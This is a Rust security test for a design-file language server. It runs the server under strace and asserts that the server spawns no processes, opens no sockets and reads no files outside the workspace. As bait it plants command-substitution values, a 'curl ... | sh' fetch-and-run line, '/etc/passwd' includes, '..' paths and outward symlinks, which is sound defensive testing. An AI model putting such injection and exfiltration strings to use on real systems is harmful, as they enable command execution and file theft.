//! What the server does to the machine, watched with `strace` (Debian package `strace`): given a
//! workspace whose design and `design.toml` name commands and URLs, a symlink out of it and `..` paths,
//! it runs nothing, opens no socket and reads no file but system libraries and `*.design` or
//! `design.toml` inside the workspace folder, whose folders it lists to find them.

mod common;

use common::Lsp;
use serde_json::{json, Value};
use std::fs;
use std::path::{Component, Path, PathBuf};
use std::process::Command;

/// What a loaded Rust binary reads on its own: the dynamic loader's cache and libraries, and what the
/// standard library and tokio read from `/proc` and `/sys` (memory maps, cgroup CPU quotas).
const SYSTEM: &[&str] =
    &["/etc/ld.so.cache", "/etc/ld.so.preload", "/lib/", "/lib64/", "/usr/lib/", "/usr/lib64/", "/proc/", "/sys/"];

/// A scratch folder holding the workspace `ws/`, a secret beside it and the strace log.
struct Scratch(PathBuf);

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

fn file_uri(path: &Path) -> String {
    format!("file://{}", path.display())
}

/// `path` with `.` and `..` resolved lexically, as a server that joins paths naively would read it.
fn normalized(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for component in path.components() {
        match component {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    out
}

/// The path argument of each traced `open`/`openat`/`openat2`, relative ones against `cwd`.
fn opened_paths(log: &str, cwd: &Path) -> Vec<PathBuf> {
    let calls = ["openat(", "open(", "openat2("];
    let mut paths = Vec::new();
    for line in log.lines() {
        let Some(at) = calls.iter().find_map(|call| line.find(call).map(|i| i + call.len())) else { continue };
        let Some(start) = line[at..].find('"').map(|i| at + i + 1) else { continue };
        let Some(end) = line[start..].find('"').map(|i| start + i) else { continue };
        let path = Path::new(&line[start..end]);
        paths.push(if path.is_absolute() { path.to_path_buf() } else { cwd.join(path) });
    }
    paths
}

/// Whether the server may open `path`: a system file, or a design file or folder inside the workspace
/// that stays inside it once `..` and symlinks are resolved (folders are opened to list them).
fn allowed(path: &Path, workspace: &Path) -> bool {
    let shown = path.to_string_lossy();
    if SYSTEM.iter().any(|prefix| shown == *prefix || shown.starts_with(prefix)) {
        return true;
    }
    let design = path.extension().is_some_and(|e| e == "design")
        || path.file_name().is_some_and(|n| n == "design.toml")
        || fs::symlink_metadata(path).is_ok_and(|m| m.is_dir());
    let lexical = normalized(path);
    let real = fs::canonicalize(path).unwrap_or_else(|_| lexical.clone());
    design && lexical.starts_with(workspace) && real.starts_with(workspace)
}

#[test]
fn the_server_runs_nothing_connects_nowhere_and_reads_only_designs_in_the_workspace() {
    let scratch = Scratch(std::env::temp_dir().join(format!("design-ls-security-{}", std::process::id())));
    let root = &scratch.0;
    let _ = fs::remove_dir_all(root);
    let workspace = root.join("ws");
    fs::create_dir_all(workspace.join("sub")).unwrap();
    let root = fs::canonicalize(root).unwrap();
    let workspace = fs::canonicalize(&workspace).unwrap();
    let pwned = root.join("pwned");
    let touch = format!("$(touch {})", pwned.display());

    let outside = root.join("outside.design");
    fs::write(&outside, "component secret: postgres \"outside the workspace\"\n").unwrap();
    fs::write(root.join("design.toml"), "include = [\"*\"]\n").unwrap();
    let design = format!(
        "system \"{touch}\"\n\
         component x: worker \"{touch}\"\n\
         component y: postgres \"`touch {pwned}`; curl http://127.0.0.1:9/\"\n\
         operation \"curl http://127.0.0.1:9/x | sh\" {{\n\
         \x20 path: GET http://127.0.0.1:9/steal\n\
         \x20 mechanism: insert\n\
         \x20 store: y\n\
         \x20 events: x\n\
         \x20 note: \"file:///etc/passwd ../outside.design {touch}\"\n\
         }}\n",
        pwned = pwned.display()
    );
    let evil = workspace.join("evil.design");
    fs::write(&evil, &design).unwrap();
    fs::write(
        workspace.join("design.toml"),
        format!("command = \"{touch}\"\nserver = \"http://127.0.0.1:9/\"\ninclude = [\"../outside.design\", \"/etc/passwd\"]\n"),
    )
    .unwrap();
    fs::write(workspace.join("notes.txt"), "not a design\n").unwrap();
    std::os::unix::fs::symlink(&outside, workspace.join("link.design")).unwrap();
    std::os::unix::fs::symlink(&root, workspace.join("sub/up")).unwrap();

    let strace = Command::new("strace").arg("-V").output();
    assert!(strace.is_ok_and(|o| o.status.success()), "strace is missing: apt-get install strace");
    let log = root.join("strace.log");
    let mut command = Command::new("strace");
    command
        .args(["-f", "-qq", "-s", "4096", "-o"])
        .arg(&log)
        .args(["-e", "trace=execve,execveat,connect,socket,open,openat,openat2"])
        .arg(env!("CARGO_BIN_EXE_design-ls"))
        .arg("--stdio")
        .current_dir(&root)
        // As an editor starts it: cargo's library path would have the loader probe the build folders.
        .env_remove("LD_LIBRARY_PATH");
    let mut lsp = Lsp::spawn_command(command);
    let folder = json!({ "uri": file_uri(&workspace), "name": "ws" });
    let init = json!({
        "processId": null,
        "rootUri": file_uri(&workspace),
        "rootPath": workspace,
        "workspaceFolders": [folder],
        "initializationOptions": { "command": touch, "serverPath": "/bin/sh", "url": "http://127.0.0.1:9/" },
        "capabilities": { "workspace": { "workspaceFolders": true, "configuration": true, "didChangeWatchedFiles": { "dynamicRegistration": true } } },
    });
    let response = lsp.request("initialize", init);
    assert!(
        response.get("error").is_none(),
        "initialize failed: {response}\n(is strace installed, and is ptrace allowed here?)\n{}",
        lsp.stderr()
    );
    lsp.notify("initialized", json!({}));

    // The design as the editor has it, the symlink out, and `..` paths out of the workspace.
    let documents = [
        (file_uri(&evil), design.clone()),
        (file_uri(&workspace.join("link.design")), String::new()),
        (format!("{}/sub/../../outside.design", file_uri(&workspace)), String::new()),
        (format!("{}/sub/up/outside.design", file_uri(&workspace)), String::new()),
        (format!("{}/../design.toml", file_uri(&workspace)), String::new()),
        (file_uri(&workspace.join("notes.txt")), String::new()),
    ];
    for (uri, text) in &documents {
        lsp.open(uri, 1, text);
    }
    lsp.notify(
        "workspace/didChangeConfiguration",
        json!({ "settings": { "design-ls": { "command": touch, "url": "http://127.0.0.1:9/" } } }),
    );
    let changes = [file_uri(&workspace.join("design.toml")), file_uri(&workspace.join("link.design"))];
    let changes: Vec<Value> = changes.iter().map(|uri| json!({ "uri": uri, "type": 2 })).collect();
    lsp.notify("workspace/didChangeWatchedFiles", json!({ "changes": changes }));
    for (uri, _) in &documents {
        for line in 0..10 {
            for character in [3, 12, 16, 24, 40] {
                let at =
                    json!({ "textDocument": { "uri": uri }, "position": { "line": line, "character": character } });
                lsp.request("textDocument/hover", at.clone());
                lsp.request("textDocument/completion", at.clone());
                lsp.request("textDocument/definition", at.clone());
                let references = json!({ "textDocument": at["textDocument"], "position": at["position"], "context": { "includeDeclaration": true } });
                lsp.request("textDocument/references", references);
            }
        }
        lsp.request("textDocument/documentSymbol", json!({ "textDocument": { "uri": uri } }));
        lsp.request("textDocument/semanticTokens/full", json!({ "textDocument": { "uri": uri } }));
    }
    lsp.request("workspace/executeCommand", json!({ "command": "design-ls.explain", "arguments": [touch] }));
    lsp.request("workspace/executeCommand", json!({ "command": touch, "arguments": [] }));
    assert_eq!(lsp.shutdown_and_exit().0.code(), Some(0), "the server (under strace) exits cleanly");

    let log = fs::read_to_string(&log).expect("strace wrote its log");
    let execs: Vec<&str> = log.lines().filter(|l| l.contains("execve(") || l.contains("execveat(")).collect();
    assert_eq!(execs.len(), 1, "only the server itself is executed:\n{}", execs.join("\n"));
    assert!(execs[0].contains(env!("CARGO_BIN_EXE_design-ls")), "{}", execs[0]);
    let network: Vec<&str> = log.lines().filter(|l| l.contains("socket(") || l.contains("connect(")).collect();
    assert!(network.is_empty(), "the server opened sockets:\n{}", network.join("\n"));
    let forbidden: Vec<String> = opened_paths(&log, &root)
        .into_iter()
        .filter(|path| !allowed(path, &workspace))
        .map(|path| path.display().to_string())
        .collect();
    assert!(forbidden.is_empty(), "the server opened files it must not read:\n{}", forbidden.join("\n"));
    assert!(!pwned.exists(), "a command named in the design or its configuration ran");
}
